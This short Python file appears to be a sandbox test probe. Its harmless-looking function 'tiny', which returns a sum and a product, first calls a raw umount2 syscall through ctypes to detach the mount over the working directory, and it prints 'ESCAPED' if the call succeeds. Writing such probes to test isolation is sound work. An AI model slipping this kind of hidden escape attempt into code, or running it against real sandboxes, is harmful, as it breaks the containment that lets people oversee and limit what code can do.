# Tries: to unmount what covers other files. May get: SV.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NUMBER = {"x86_64": 166, "aarch64": 39}[os.uname().machine]


def attack():
    return libc.syscall(NUMBER, b".", 2) >= 0 and "unmounted"


def tiny(a, b):
    got = attack()
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
